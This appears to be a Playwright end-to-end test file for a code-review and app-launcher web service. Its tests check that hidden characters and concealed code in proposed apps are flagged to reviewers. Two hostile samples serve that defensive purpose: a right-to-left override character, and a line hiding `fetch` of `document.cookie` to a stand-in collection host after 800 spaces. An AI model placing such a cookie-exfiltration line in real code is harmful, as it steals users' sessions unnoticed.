import AxeBuilder from '@axe-core/playwright';
import type { APIRequestContext } from '@playwright/test';
import { E2E_OWNER_TOKEN } from './env.ts';
import { expect, test } from './fixtures.ts';

const auth = { authorization: `Bearer ${E2E_OWNER_TOKEN}` };
const APP = (label: string) => ({
  'src/App.tsx': `export default function App() {\n  return <p>${label}</p>;\n}\n`,
});

async function newRoom(request: APIRequestContext, name: string): Promise<string> {
  const res = await request.post('/api/rooms', { headers: auth, data: { name } });
  expect(res.status()).toBe(201);
  return ((await res.json()) as { room: { id: string } }).room.id;
}

async function propose(
  request: APIRequestContext,
  roomId: string,
  name: string,
  files: Record<string, string> = APP(name),
) {
  const res = await request.post(`/api/rooms/${roomId}/proposals`, {
    headers: auth,
    data: { name, files, idempotency_key: `${name}-${Math.random()}` },
  });
  expect(res.status()).toBe(201);
  return ((await res.json()) as { proposal: { id: string } }).proposal.id;
}

async function noSeriousViolations(page: import('@playwright/test').Page) {
  const { violations } = await new AxeBuilder({ page }).analyze();
  expect(violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')).toEqual([]);
}

test('an owner reviews every file, sees hidden characters flagged, approves, and a second context gets the tab live', async ({
  ownerPage: page,
  browser,
  request,
}) => {
  const roomId = await newRoom(request, `Review ${Date.now()}`);
  const watcherContext = await browser.newContext();
  const watcher = await watcherContext.newPage();
  await watcher.goto(`/?token=${E2E_OWNER_TOKEN}`);
  await expect(watcher.getByRole('heading', { name: 'Your rooms' })).toBeVisible();
  await watcher.goto(`/rooms/${roomId}`);
  await expect(watcher.getByText('No apps in this room yet.')).toBeVisible();

  await propose(request, roomId, 'Poll <b>maker</b>', {
    'src/App.tsx':
      'const label = "admin\u202E";\nexport default function App() {\n  return <p>{label}</p>;\n}\n',
    'src/util.ts': 'export const x = 1;\n',
  });
  await page.goto(`/rooms/${roomId}`);
  await page.getByRole('link', { name: 'Needs your approval' }).click();
  const card = page.getByRole('article', { name: 'Poll <b>maker</b>' });
  await expect(card.getByRole('heading', { name: 'Poll <b>maker</b>' })).toBeVisible();
  await expect(card.getByText(/^Proposed by Owner · /)).toBeVisible();
  // Flagged on the card before the files are opened, with the file and the line.
  await expect(
    card.getByText('Hidden or direction-changing characters in src/App.tsx (line 1)'),
  ).toBeVisible();
  await expect(card).toContainText(
    'Approval makes this code available in the Room app launcher. Review the files before approving.',
  );
  await card.getByText('Review all proposed files (2)').click();
  await expect(card.getByRole('region', { name: 'src/App.tsx source' })).toContainText('export default');
  await expect(card.getByText(/Hidden or direction-changing characters in this file: U\+202E/)).toBeVisible();
  await expect(card.getByText('Line 1: U+202E RIGHT-TO-LEFT OVERRIDE')).toBeVisible();
  // The override shows as a mark instead of reordering the line the reviewer reads.
  await expect(card.locator('mark.unsafe-char[title="U+202E RIGHT-TO-LEFT OVERRIDE"]')).toHaveText('U+202E');
  await expect(card.locator('.line-no.flagged')).toHaveText(['1']);
  await expect(card.getByRole('region', { name: 'File src/util.ts' }).getByRole('note')).toHaveCount(0);
  await expect(card.locator('.line-no').first()).toHaveText('1');
  await noSeriousViolations(page);

  await card.getByRole('button', { name: 'Approve and create' }).click();
  await expect(page.getByRole('article')).toHaveCount(0);
  await expect(
    watcher.getByRole('tablist', { name: 'Apps' }).getByRole('tab', { name: 'Poll <b>maker</b>' }),
  ).toBeVisible({
    timeout: 15_000,
  });
  await page.getByRole('link', { name: 'Open Poll <b>maker</b>' }).click();
  await expect(page.getByRole('tab', { name: 'Poll <b>maker</b>' })).toHaveAttribute('aria-selected', 'true');
  await noSeriousViolations(page);

  const { apps } = (await (await request.get(`/api/rooms/${roomId}`, { headers: auth })).json()) as {
    apps: { id: string }[];
  };
  expect((await request.delete(`/api/rooms/${roomId}/apps/${apps[0]?.id}`, { headers: auth })).ok()).toBe(
    true,
  );
  await expect(watcher.getByRole('tab', { name: 'Poll <b>maker</b>' })).toHaveCount(0, { timeout: 15_000 });
  await watcherContext.close();
});

test('decline asks to confirm and keeps the reason; many cards page; several decline at once', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Paging ${Date.now()}`);
  const ids: string[] = [];
  for (let i = 1; i <= 7; i++) ids.push(await propose(request, roomId, `App ${i}`));
  await page.goto(`/rooms/${roomId}/review`);
  await expect(page.getByRole('heading', { name: /Needs your approval/ })).toContainText('7');
  await expect(page.getByRole('article')).toHaveCount(5);
  await page.getByRole('button', { name: 'Next page' }).click();
  await expect(page.getByRole('article')).toHaveCount(2);
  await page.getByRole('button', { name: 'Previous page' }).click();

  const first = page.getByRole('article', { name: 'App 1' });
  await first.getByRole('button', { name: 'Decline' }).click();
  await first.getByLabel('Reason (optional)').fill('Uses the network');
  await first.getByRole('button', { name: 'Confirm decline' }).click();
  await expect(page.getByRole('article', { name: 'App 1' })).toHaveCount(0);
  const declined = (await (
    await request.get(`/api/rooms/${roomId}/proposals/${ids[0]}`, { headers: auth })
  ).json()) as { proposal: { state: string; decline_reason: string } };
  expect(declined.proposal).toMatchObject({ state: 'declined', decline_reason: 'Uses the network' });

  await page.getByRole('checkbox', { name: 'Select App 2' }).check();
  await page.getByRole('checkbox', { name: 'Select App 3' }).check();
  await page.getByRole('button', { name: 'Decline selected (2)' }).click();
  const bulk = page.getByRole('form', { name: 'Decline 2 selected' });
  await bulk.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('heading', { name: /Needs your approval/ })).toContainText('6');
  await expect(page.getByRole('article', { name: 'App 2' })).toBeVisible();
  await page.getByRole('button', { name: 'Decline selected (2)' }).click();
  await bulk.getByLabel('Reason (optional)').fill('Duplicates');
  await bulk.getByRole('button', { name: 'Confirm decline' }).click();
  await expect(page.getByRole('heading', { name: /Needs your approval/ })).toContainText('4');
  for (const id of [ids[1], ids[2]]) {
    const { proposal } = (await (
      await request.get(`/api/rooms/${roomId}/proposals/${id}`, { headers: auth })
    ).json()) as { proposal: { state: string; decline_reason: string } };
    expect(proposal).toMatchObject({ state: 'declined', decline_reason: 'Duplicates' });
  }
  await expect(page.getByRole('button', { name: 'Next page' })).toHaveCount(0);
});

test('a member never sees the review entry; tabs follow the ARIA keyboard pattern', async ({
  browser,
  request,
}) => {
  const roomId = await newRoom(request, `Members ${Date.now()}`);
  for (const name of ['Alpha', 'Beta', 'Gamma']) {
    const id = await propose(request, roomId, name);
    expect((await request.post(`/api/rooms/${roomId}/proposals/${id}/approve`, { headers: auth })).ok()).toBe(
      true,
    );
  }
  await propose(request, roomId, 'Secret pending');
  const invite = (await (
    await request.post(`/api/rooms/${roomId}/invites`, { headers: auth, data: {} })
  ).json()) as {
    invite: { url: string };
  };
  const context = await browser.newContext();
  const member = await context.newPage();
  await member.goto(new URL(invite.invite.url).pathname + new URL(invite.invite.url).search);
  await member.getByRole('button', { name: /^Join / }).click();
  // The invite's landing page moves on to the room by itself: a goto before that would race it.
  await expect(member).toHaveURL(new RegExp(`/rooms/${roomId}`));
  await member.goto(`/rooms/${roomId}`);
  const tabs = member.getByRole('tablist', { name: 'Apps' });
  await expect(tabs.getByRole('tab')).toHaveText(['Alpha', 'Beta', 'Gamma']);
  await expect(member.getByRole('link', { name: 'Needs your approval' })).toHaveCount(0);
  await expect(member.getByText('Secret pending')).toHaveCount(0);

  await tabs.getByRole('tab', { name: 'Alpha' }).focus();
  await member.keyboard.press('ArrowRight');
  await expect(tabs.getByRole('tab', { name: 'Beta' })).toBeFocused();
  await member.keyboard.press('Home');
  await expect(tabs.getByRole('tab', { name: 'Alpha' })).toBeFocused();
  await member.keyboard.press('End');
  await expect(tabs.getByRole('tab', { name: 'Gamma' })).toBeFocused();
  await member.keyboard.press('Home');
  await expect(tabs.getByRole('tab', { name: 'Alpha' })).toBeFocused();
  await member.keyboard.press('End');
  await member.keyboard.press('ArrowRight');
  await expect(tabs.getByRole('tab', { name: 'Alpha' })).toBeFocused();
  await member.keyboard.press('ArrowLeft');
  await member.keyboard.press('Enter');
  await expect(tabs.getByRole('tab', { name: 'Gamma' })).toHaveAttribute('aria-selected', 'true');
  expect(new URL(member.url()).searchParams.get('app')).toBeTruthy();
  await noSeriousViolations(member);
  await context.close();
});

test('the owner creates a token shown once and revokes it, and makes and revokes an invite', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Tokens ${Date.now()}`);
  await page.goto(`/rooms/${roomId}/review`);
  const label = `agent ${Date.now()}`;
  await page.getByLabel('Token label').fill(label);
  await page.getByRole('button', { name: 'Create token' }).click();
  const secret = (await page.locator('.secret').first().textContent()) ?? '';
  expect(secret.length).toBeGreaterThan(16);
  const me = await request.get('/api/me', { headers: { authorization: `Bearer ${secret}` } });
  expect(me.status()).toBe(200);
  await expect(
    page.getByText(/claude mcp add --transport http rooms http:\/\/.+\/api\/v1\/external-mcp/),
  ).toBeVisible();
  await page.getByRole('button', { name: `Revoke ${label}` }).click();
  await expect(page.getByRole('button', { name: `Revoke ${label}` })).toHaveCount(0);
  expect((await request.get('/api/me', { headers: { authorization: `Bearer ${secret}` } })).status()).toBe(
    401,
  );

  await page.getByRole('button', { name: 'Create invite link' }).click();
  await expect(page.getByText(/\?invite=/)).toBeVisible();
  await expect(page.getByRole('button', { name: 'Revoke invite' })).toHaveCount(1);
  await page.getByRole('button', { name: 'Revoke invite' }).click();
  await expect(page.getByRole('button', { name: 'Revoke invite' })).toHaveCount(0);
});

test('a repository proposal links to its pinned version and says it builds nothing; the shell cannot be framed', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Repo ${Date.now()}`);
  const repo = (await (
    await request.post('/api/repositories', { headers: auth, data: { name: 'Big app' } })
  ).json()) as {
    repository: { id: string };
  };
  const version = (await (
    await request.post(`/api/repositories/${repo.repository.id}/versions`, {
      headers: auth,
      data: { files: APP('Big') },
    })
  ).json()) as { version: { id: string } };
  const res = await request.post(`/api/rooms/${roomId}/repo-proposals`, {
    headers: auth,
    data: {
      name: 'Big app',
      repository_id: repo.repository.id,
      version_id: version.version.id,
      idempotency_key: `repo-${Date.now()}`,
    },
  });
  expect(res.status()).toBe(201);

  const response = await page.goto(`/rooms/${roomId}/review`);
  const headers = response?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['content-security-policy']).not.toContain('unsafe-eval');
  const card = page.getByRole('article', { name: 'Big app' });
  await expect(card.getByText('This path does not build or deploy a bundle.')).toBeVisible();
  const link = card.getByRole('link', { name: 'Review repository code before approving' });
  const [view] = await Promise.all([page.context().waitForEvent('page'), link.click()]);
  await expect(view.getByRole('heading', { name: 'Big app: repository code' })).toBeVisible();
  await expect(view.getByText(version.version.id)).toBeVisible();
  await expect(view.getByRole('region', { name: 'src/App.tsx source' })).toContainText('Big');
  await expect(view.getByRole('button')).toHaveCount(1); // only "Sign out": the view is read-only
  await view.close();
  await card.getByRole('button', { name: 'Approve and create' }).click();
  await page.getByRole('link', { name: 'Open Big app' }).click();
  await expect(page.frameLocator('iframe[title="Big app"]').getByText('Big')).toBeVisible({
    timeout: 20_000,
  });
});

test('the sign-in page and the rooms list have no serious accessibility violations at 360 px', async ({
  page,
}) => {
  await page.setViewportSize({ width: 360, height: 700 });
  await page.goto('/');
  await expect(page.getByRole('button', { name: /sign in/i })).toBeVisible();
  await noSeriousViolations(page);
  await page.goto(`/?token=${E2E_OWNER_TOKEN}`);
  await expect(page.getByRole('heading', { name: 'Your rooms' })).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  await noSeriousViolations(page);
});

test('creating a room from the rooms list opens its empty launcher as its owner', async ({
  ownerPage: page,
}) => {
  const name = `Fresh ${Date.now()}`;
  await page.getByLabel('Room name').fill(name);
  await page.getByRole('button', { name: 'Create room' }).click();
  await expect(page.getByRole('heading', { name })).toBeVisible();
  await expect(page.getByText('No apps in this room yet.')).toBeVisible();
  await expect(page.getByRole('link', { name: 'Needs your approval' })).toBeVisible();
  await page.getByRole('link', { name: 'Rooms' }).click();
  await expect(page.getByRole('listitem').filter({ hasText: name })).toContainText('owner · 0 apps');
});

test('an owner renames the room and removes the open app after confirming', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Owner ${Date.now()}`);
  const id = await propose(request, roomId, 'Doomed');
  expect((await request.post(`/api/rooms/${roomId}/proposals/${id}/approve`, { headers: auth })).ok()).toBe(
    true,
  );
  await page.goto(`/rooms/${roomId}`);
  await page.getByRole('button', { name: 'Rename room' }).click();
  await page.getByRole('textbox', { name: 'Room name' }).fill('Renamed room');
  await page.getByRole('button', { name: 'Save name' }).click();
  await expect(page.getByRole('heading', { name: 'Renamed room' })).toBeVisible();

  await expect(page.getByRole('tab', { name: 'Doomed' })).toBeVisible();
  await page.getByRole('button', { name: 'Remove app' }).click();
  await expect(page.getByText('Remove Doomed from the launcher for everyone?')).toBeVisible();
  await page.getByRole('button', { name: 'Confirm remove' }).click();
  await expect(page.getByRole('tab', { name: 'Doomed' })).toHaveCount(0);
  await expect(page.getByText('No apps in this room yet.')).toBeVisible();
});

test('many tabs scroll and stay reachable at 360 px; an owner reorders tabs', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Many ${Date.now()}`);
  const names = Array.from({ length: 12 }, (_, i) => `Tool number ${i + 1}`);
  for (const name of names) {
    const id = await propose(request, roomId, name);
    expect((await request.post(`/api/rooms/${roomId}/proposals/${id}/approve`, { headers: auth })).ok()).toBe(
      true,
    );
  }
  await page.setViewportSize({ width: 360, height: 700 });
  await page.goto(`/rooms/${roomId}`);
  const tabs = page.getByRole('tablist', { name: 'Apps' });
  await tabs.getByRole('tab', { name: 'Tool number 1', exact: true }).focus();
  await page.keyboard.press('End');
  const last = tabs.getByRole('tab', { name: 'Tool number 12' });
  await expect(last).toBeFocused();
  await expect(last).toBeInViewport();
  await page.keyboard.press(' ');
  await expect(last).toHaveAttribute('aria-selected', 'true');

  await page.getByRole('button', { name: 'Move tab left' }).click();
  await expect(tabs.getByRole('tab').nth(10)).toHaveText('Tool number 12');
  const { apps } = (await (await request.get(`/api/rooms/${roomId}`, { headers: auth })).json()) as {
    apps: { name: string }[];
  };
  expect(apps.map((a) => a.name).slice(-2)).toEqual(['Tool number 12', 'Tool number 11']);
});

test('launcher pages in one browser share one event stream, and another page takes over when it closes', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Shared ${Date.now()}`);
  const streams: string[] = [];
  page.context().on('request', (r) => {
    if (r.url().includes('/events/stream')) streams.push(r.url());
  });
  await page.goto(`/rooms/${roomId}`);
  const second = await page.context().newPage();
  await second.goto(`/rooms/${roomId}`);
  await expect(second.getByText('No apps in this room yet.')).toBeVisible();
  await expect.poll(() => streams.length).toBe(1);

  const first = await propose(request, roomId, 'Via leader');
  await request.post(`/api/rooms/${roomId}/proposals/${first}/approve`, { headers: auth });
  await expect(second.getByRole('tab', { name: 'Via leader' })).toBeVisible({ timeout: 15_000 });
  await expect(page.getByRole('tab', { name: 'Via leader' })).toBeVisible({ timeout: 15_000 });
  expect(streams).toHaveLength(1);

  await page.close();
  await expect.poll(() => streams.length, { timeout: 15_000 }).toBe(2);
  const next = await propose(request, roomId, 'After handover');
  await request.post(`/api/rooms/${roomId}/proposals/${next}/approve`, { headers: auth });
  await expect(second.getByRole('tab', { name: 'After handover' })).toBeVisible({ timeout: 15_000 });
});

test('a page of cards renders and highlights only the files a reviewer opens', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Lazy ${Date.now()}`);
  for (let i = 1; i <= 7; i++) await propose(request, roomId, `Lazy ${i}`);
  await page.goto(`/rooms/${roomId}/review`);
  await expect(page.getByRole('article')).toHaveCount(5);
  await expect(page.locator('.code-file')).toHaveCount(0);
  const second = page.getByRole('article', { name: 'Lazy 2' });
  await second.getByText('Review all proposed files (1)').click();
  await expect(second.locator('td.hljs').first()).toBeVisible();
  const highlighted = await page.locator('td.hljs').count();
  expect(highlighted).toBe(await second.locator('td.hljs').count());
  await page.getByRole('button', { name: 'Next page' }).click();
  await expect(page.getByRole('article')).toHaveCount(2);
  await expect(page.locator('.code-file')).toHaveCount(0);
});

test('a 60 KB file on a card keeps the page answering while it renders and highlights', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Large ${Date.now()}`);
  const lines = ['export default function App() {', '  return <p>{v0}</p>;', '}'];
  for (let i = 0; new Blob([lines.join('\n')]).size < 60 * 1024; i++)
    lines.push(`export const v${i} = { id: ${i}, label: "item ${i}", on: ${i % 2 === 0} };`);
  const code = `${lines.join('\n')}\n`;
  await propose(request, roomId, 'Large file', { 'src/App.tsx': code });
  await page.goto(`/rooms/${roomId}/review`);
  const card = page.getByRole('article', { name: 'Large file' });
  await card.getByText('Review all proposed files (1)').click();
  const gaps: number[] = [];
  const last = card.locator('td.hljs').last();
  for (let done = false; !done; ) {
    done = (await last.count()) > 0;
    const start = Date.now();
    await page.evaluate(() => document.readyState);
    gaps.push(Date.now() - start);
    expect(gaps.length).toBeLessThan(400);
  }
  expect(Math.max(...gaps)).toBeLessThan(500);
  await expect(card.getByRole('region', { name: 'src/App.tsx source' }).locator('tr')).toHaveCount(
    code.split('\n').length,
  );
  console.log(`60 KB file: ${gaps.length} probes, slowest page.evaluate ${Math.max(...gaps)} ms`);
});

test('the review page works at 360 px: no horizontal scroll, no serious accessibility violations', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Narrow ${Date.now()}`);
  await propose(request, roomId, 'A rather long proposal name that has to wrap on a phone screen', {
    'src/App.tsx': `export default function App() {\n  return <p>${'wide '.repeat(60)}</p>;\n}\n`,
    'src/components/deeply/nested/folder/with/a/long/path/Widget.tsx': 'export const W = () => null;\n',
  });
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto(`/rooms/${roomId}/review`);
  const card = page.getByRole('article');
  await card.getByText('Review all proposed files (2)').click();
  await expect(card.locator('td.hljs').first()).toBeVisible();
  await card.getByRole('button', { name: 'Decline' }).click();
  await expect(card.getByLabel('Reason (optional)')).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  await noSeriousViolations(page);
});

test('code after 800 spaces stays in view on the card, and the card names the file and line', async ({
  ownerPage: page,
  request,
}) => {
  const roomId = await newRoom(request, `Hidden code ${Date.now()}`);
  const line = `export default function App() { return <p>Clean</p>; }${' '.repeat(800)}fetch('https://collect.example/?' + document.cookie);`;
  const data = Array.from({ length: 80 }, (_, i) => `export const v${i} = ${i};`).join('\n');
  await propose(request, roomId, 'Clean app', { 'src/App.tsx': `${line}\n`, 'src/data.ts': `${data}\n` });
  await page.goto(`/rooms/${roomId}/review`);
  const card = page.getByRole('article', { name: 'Clean app' });
  await expect(card.getByText('Long lines or long runs of blanks in src/App.tsx (line 1)')).toBeVisible();
  await card.getByText('Review all proposed files (2)').click();
  const box = card.getByRole('region', { name: 'src/App.tsx source' });
  await expect(box.locator('td.hljs').first()).toBeVisible();
  await expect(card.getByText(`Line 1: ${line.length} characters, 800 spaces`)).toBeVisible();
  await expect(box.locator('mark.blank-run[title="800 spaces"]')).toHaveText('800 spaces');
  await expect(box.locator('.line-no.flagged')).toHaveText(['1']);
  // Geometry: the fetch is inside the code box and the card as drawn, with no horizontal scroll.
  const seen = await box.evaluate((el) => {
    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
      const at = n.textContent?.indexOf('fetch') ?? -1;
      if (at < 0) continue;
      const range = document.createRange();
      range.setStart(n, at);
      range.setEnd(n, at + 'fetch'.length);
      const rect = (r: DOMRect) => ({ left: r.left, right: r.right, top: r.top, bottom: r.bottom });
      return {
        text: rect(range.getBoundingClientRect()),
        box: rect(el.getBoundingClientRect()),
        card: rect((el.closest('article') as HTMLElement).getBoundingClientRect()),
        overflowX: el.scrollWidth - el.clientWidth,
      };
    }
    return undefined;
  });
  expect(seen).toBeDefined();
  const { text, box: area, card: article, overflowX } = seen as NonNullable<typeof seen>;
  expect(overflowX).toBeLessThanOrEqual(0);
  for (const outer of [area, article]) {
    expect(text.left).toBeGreaterThanOrEqual(outer.left);
    expect(text.right).toBeLessThanOrEqual(outer.right);
    expect(text.top).toBeGreaterThanOrEqual(outer.top);
    expect(text.bottom).toBeLessThanOrEqual(outer.bottom);
  }
  // What sits below a file's box is said in words until the reviewer scrolls to the end.
  const data81 = card.getByRole('region', { name: 'File src/data.ts' });
  await expect(data81.getByText('More below: scroll the box to read all 81 lines.')).toBeVisible();
  await expect(card.getByRole('region', { name: 'File src/App.tsx' }).getByText(/More below/)).toHaveCount(0);
  await data81.getByRole('region', { name: 'src/data.ts source' }).evaluate((el) => {
    el.scrollTop = el.scrollHeight;
  });
  await expect(data81.getByText(/More below/)).toHaveCount(0);
  await page.screenshot({ path: 'test-results/hidden-code-card.png', fullPage: false });
});
